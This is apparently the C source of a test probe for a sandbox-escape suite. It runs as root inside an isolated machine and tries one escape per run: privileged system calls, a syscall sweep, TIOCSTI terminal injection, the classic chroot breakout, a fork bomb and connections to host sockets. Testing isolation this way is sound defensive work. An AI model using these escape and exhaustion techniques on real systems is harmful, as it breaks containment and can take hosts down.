/* The hostile program of the escape suite: runs inside a computer as its root, makes one attempt, and prints
 * what came of it as "NAME: value" or "NAME: ENAME". Static, so that it runs in any root file system. What an
 * attempt may answer is the business of attempts.c.
 *
 *   prober call NAME|NUMBER [ARG ...]   a raw system call. ARG: a number, @N (N zero bytes), or text
 *   prober sweep FIRST LAST VALUE       every number in turn, each in a child that is killed if it blocks;
 *                                       VALUE for all six arguments, or @ for a zeroed page */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#define ARRAY_LEN(a) (sizeof(a) / sizeof((a)[0]))
#define SWEEP_WAIT_MS 100

/* clang-format off */
#define NUMBER(name) {#name, SYS_##name}
#define ERROR(e) {e, #e}
static const struct {
    const char *name;
    long number;
} numbers[] = {
    NUMBER(acct), NUMBER(add_key), NUMBER(adjtimex), NUMBER(bpf), NUMBER(chroot),
    NUMBER(clock_adjtime), NUMBER(clock_settime), NUMBER(clone), NUMBER(delete_module),
    NUMBER(fanotify_init), NUMBER(finit_module), NUMBER(fsconfig), NUMBER(fsmount), NUMBER(fsopen),
    NUMBER(fspick), NUMBER(init_module), NUMBER(io_uring_enter), NUMBER(io_uring_register),
    NUMBER(io_uring_setup), NUMBER(kcmp), NUMBER(kexec_file_load), NUMBER(kexec_load),
    NUMBER(keyctl), NUMBER(lookup_dcookie), NUMBER(mbind), NUMBER(migrate_pages), NUMBER(mknodat),
    NUMBER(mount), NUMBER(mount_setattr), NUMBER(move_mount), NUMBER(move_pages),
    NUMBER(name_to_handle_at), NUMBER(nfsservctl), NUMBER(open_by_handle_at), NUMBER(open_tree),
    NUMBER(perf_event_open), NUMBER(personality), NUMBER(pidfd_getfd), NUMBER(pidfd_open),
    NUMBER(pivot_root), NUMBER(process_madvise), NUMBER(process_vm_readv),
    NUMBER(process_vm_writev), NUMBER(ptrace), NUMBER(quotactl), NUMBER(reboot),
    NUMBER(request_key), NUMBER(sethostname), NUMBER(set_mempolicy), NUMBER(setdomainname),
    NUMBER(setns), NUMBER(setxattr), NUMBER(settimeofday), NUMBER(setpriority), NUMBER(socket), NUMBER(swapoff),
    NUMBER(swapon), NUMBER(syslog), NUMBER(umount2), NUMBER(unshare), NUMBER(userfaultfd),
    NUMBER(vhangup), NUMBER(vmsplice),
#ifdef __x86_64__
    NUMBER(ioperm), NUMBER(iopl), NUMBER(modify_ldt), NUMBER(sysfs), NUMBER(uselib), NUMBER(ustat),
#endif
};

static const struct {
    int number;
    const char *name;
} errors[] = {
    ERROR(EPERM), ERROR(ENOENT), ERROR(ESRCH), ERROR(EINTR), ERROR(EIO), ERROR(ENXIO), ERROR(EBADF),
    ERROR(EAGAIN), ERROR(ENOMEM), ERROR(EACCES), ERROR(EFAULT), ERROR(EBUSY), ERROR(EEXIST),
    ERROR(EXDEV), ERROR(ENODEV), ERROR(ENOTDIR), ERROR(EISDIR), ERROR(EINVAL), ERROR(ENFILE),
    ERROR(EMFILE), ERROR(ENOTTY), ERROR(ETXTBSY), ERROR(EFBIG), ERROR(ENOSPC), ERROR(EROFS),
    ERROR(EMLINK), ERROR(ELOOP), ERROR(ENOSYS), ERROR(ENOTUNIQ), ERROR(EOPNOTSUPP),
    ERROR(EAFNOSUPPORT), ERROR(EPROTONOSUPPORT), ERROR(ECONNREFUSED), ERROR(ENETUNREACH),
    ERROR(ETIMEDOUT), ERROR(EHOSTUNREACH), ERROR(ESOCKTNOSUPPORT), ERROR(EUSERS), ERROR(ENOTCONN),
};
/* clang-format on */

static int say(const char *name, long value)
{
    const char *error = NULL;
    for (size_t i = 0; value == -1 && i < ARRAY_LEN(errors); i++)
        if (errors[i].number == errno)
            error = errors[i].name;
    if (value != -1)
        printf("%s: %ld\n", name, value);
    else if (error)
        printf("%s: %s\n", name, error);
    else
        printf("%s: errno %d\n", name, errno);
    fflush(stdout);
    return value == -1;
}

static long argument(const char *text)
{
    char *end;
    if (text[0] == '@')
        return (long)calloc(1, strtoul(text + 1, NULL, 0));
    errno = 0;
    unsigned long value = strtoul(text, &end, 0);
    return *text != '\0' && *end == '\0' ? (long)value : (long)text;
}

static int call(int argc, char **argv)
{
    if (argc < 1 || argc > 7)
        return 2;
    char *end;
    long number = strtol(argv[0], &end, 0), a[6] = {0};
    if (*end) {
        size_t i = 0;
        while (i < ARRAY_LEN(numbers) && strcmp(numbers[i].name, argv[0]))
            i++;
        if (i == ARRAY_LEN(numbers))
            return 2;
        number = numbers[i].number;
    }
    for (int i = 1; i < argc; i++)
        a[i - 1] = argument(argv[i]);
    return say(argv[0], syscall(number, a[0], a[1], a[2], a[3], a[4], a[5]));
}

/* In a child of its own: whatever the call does to its caller, the sweep goes on. */
static void sweep_one(long number, long value)
{
    signal(SIGALRM, SIG_DFL);
    close(0);
    (void)syscall(number, value, value, value, value, value, value);
    _exit(0); /* also of the children that fork, vfork and clone make */
}

static int sweep(int argc, char **argv)
{
    if (argc != 3)
        return 2;
    long first = atol(argv[0]), last = atol(argv[1]),
         value = argument(argv[2][0] == '@' ? "@65536" : argv[2]);
    long ran = 0, died = 0, killed = 0;
    for (long number = first; number <= last; number++) {
        pid_t pid = fork();
        if (pid == 0)
            sweep_one(number, value);
        int pidfd = pid > 0 ? (int)syscall(SYS_pidfd_open, pid, 0) : -1, status = 0;
        struct pollfd wait = {.fd = pidfd, .events = POLLIN};
        if (pidfd < 0)
            return say("sweep", -1);
        if (poll(&wait, 1, SWEEP_WAIT_MS) == 0) {
            kill(pid, SIGKILL);
            killed++;
        }
        close(pidfd);
        waitpid(pid, &status, 0);
        ran++;
        died += WIFSIGNALED(status);
    }
    printf("sweep: %ld numbers, %ld ended by a signal, %ld of them blocked\n", ran, died, killed);
    return 0;
}

static int clone3_flags(int argc, char **argv)
{
    uint64_t args[11] = {argc > 0 ? strtoull(argv[0], NULL, 0) : 0, [4] = SIGCHLD};
    return say("clone3", syscall(SYS_clone3, args, sizeof args));
}

static int unix_address(struct sockaddr_un *a, const char *name, socklen_t *len)
{
    *a = (struct sockaddr_un){.sun_family = AF_UNIX};
    size_t abstract = name[0] == '/' ? 0 : 1;
    snprintf(a->sun_path + abstract, sizeof a->sun_path - abstract, "%s", name);
    *len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + abstract + strlen(name));
    return socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
}

static int tcp_address(struct sockaddr_in *a, const char *address, const char *port)
{
    *a = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port))};
    unsigned b[4] = {0};
    (void)sscanf(address, "%u.%u.%u.%u", b, b + 1, b + 2, b + 3);
    a->sin_addr.s_addr = htonl(b[0] << 24 | b[1] << 16 | b[2] << 8 | b[3]);
    return socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
}

/* connect-unix PATH-OR-ABSTRACT-NAME */
static int connect_unix(int argc, char **argv)
{
    struct sockaddr_un a;
    socklen_t len;
    int fd = unix_address(&a, argc > 0 ? argv[0] : "", &len);
    return say("connect", connect(fd, (struct sockaddr *)&a, len));
}

/* connect-tcp ADDRESS PORT */
static int connect_tcp(int argc, char **argv)
{
    struct sockaddr_in a;
    if (argc != 2)
        return 2;
    int fd = tcp_address(&a, argv[0], argv[1]);
    return say("connect", connect(fd, (struct sockaddr *)&a, sizeof a));
}

/* listen ABSTRACT-NAME PORT FILE: the victim. Makes FILE when anybody connects. */
static int victim(int argc, char **argv)
{
    struct sockaddr_un u;
    struct sockaddr_in t;
    socklen_t len;
    if (argc != 3)
        return 2;
    int fds[] = {unix_address(&u, argv[0], &len), tcp_address(&t, "0.0.0.0", argv[1])};
    if (bind(fds[0], (struct sockaddr *)&u, len) < 0 || listen(fds[0], 1) < 0 ||
        bind(fds[1], (struct sockaddr *)&t, sizeof t) < 0 || listen(fds[1], 1) < 0)
        return say("listen", -1);
    struct pollfd wait[] = {{.fd = fds[0], .events = POLLIN}, {.fd = fds[1], .events = POLLIN}};
    (void)poll(wait, 2, -1);
    return open(argv[2], O_CREAT | O_WRONLY, 0600) < 0;
}

/* Pushes a byte into a terminal's input, as a program that outlives `su` would. high: bits beyond the 32 that
 * ioctl(2) looks at. */
static int push_into_terminal(int argc, char **argv)
{
    unsigned long high = argc > 0 ? strtoul(argv[0], NULL, 0) : 0;
    int master = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC);
    if (master < 0 || unlockpt(master) < 0)
        return say("ptmx", -1);
    int terminal = open(ptsname(master), O_RDWR | O_CLOEXEC);
    if (terminal < 0)
        return say("pts", -1);
    return say("tiocsti", syscall(SYS_ioctl, terminal, high | TIOCSTI, "x"));
}

/* The classic way out of chroot(2): keep a descriptor of a folder above the new root, then climb. */
static int chroot_escape(int argc, char **argv)
{
    int above = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    (void)mkdir("/tmp/jail", 0700);
    if (chroot("/tmp/jail") < 0 || fchdir(above) < 0)
        return say("chroot", -1);
    for (int i = 0; i < 64; i++)
        (void)!chdir("..");
    if (chroot(".") < 0)
        return say("chroot again", -1);
    return say("open", open(argc > 0 ? argv[0] : "/", O_RDONLY | O_CLOEXEC));
}

/* A system call by the 32-bit entry, which has other numbers: 20 is getpid there, writev here. */
static int compat_call(int argc, char **argv)
{
#ifdef __x86_64__
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(20L) : "memory", "r8", "r9", "r10", "r11");
    errno = (int)-result;
    return say("compat", result < 0 ? -1 : result);
#else
    errno = ENOSYS;
    return say("compat", -1);
#endif
}

/* Children until no more can be made; they stay, stopped or sleeping, until somebody kills them. */
static int fork_all(int argc, char **argv)
{
    long made = 0;
    for (pid_t pid; made < 100000 && (pid = fork()) >= 0; made++)
        if (pid == 0)
            for (;;)
                (void)(argc > 0 ? raise(SIGSTOP) : pause());
    return say("made", made) + say("fork", -1);
}

/* One folder in another, DEPTH times, each with a file of a name that is hard to print. */
static int deep_tree(int argc, char **argv)
{
    long depth = argc > 0 ? atol(argv[0]) : 0, made = 0;
    char name[256];
    memset(name, '\n', sizeof name - 1);
    name[255] = '\0';
    for (; made < depth && mkdir("d", 0700) == 0 && chdir("d") == 0; made++) {
        int fd = open(name, O_CREAT | O_WRONLY | O_CLOEXEC, 0000);
        if (fd >= 0)
            close(fd);
    }
    return say("depth", made);
}

/* open FILE MODE, with MODE one of r w: for files whose reading through a shell would tell less. */
static int open_file(int argc, char **argv)
{
    if (argc != 2)
        return 2;
    return say("open", open(argv[0], (argv[1][0] == 'w' ? O_WRONLY : O_RDONLY) | O_CLOEXEC | O_NONBLOCK));
}

static const struct {
    const char *name;
    int (*run)(int argc, char **argv);
} modes[] = {
    {"call", call},
    {"sweep", sweep},
    {"clone3", clone3_flags},
    {"connect-unix", connect_unix},
    {"connect-tcp", connect_tcp},
    {"listen", victim},
    {"tiocsti", push_into_terminal},
    {"chroot-escape", chroot_escape},
    {"compat", compat_call},
    {"fork-all", fork_all},
    {"deep-tree", deep_tree},
    {"open", open_file},
};

int main(int argc, char **argv)
{
    for (size_t i = 0; argc > 1 && i < ARRAY_LEN(modes); i++)
        if (strcmp(argv[1], modes[i].name) == 0)
            return modes[i].run(argc - 2, argv + 2);
    fprintf(stderr, "prober: no such attempt\n");
    return 2;
}
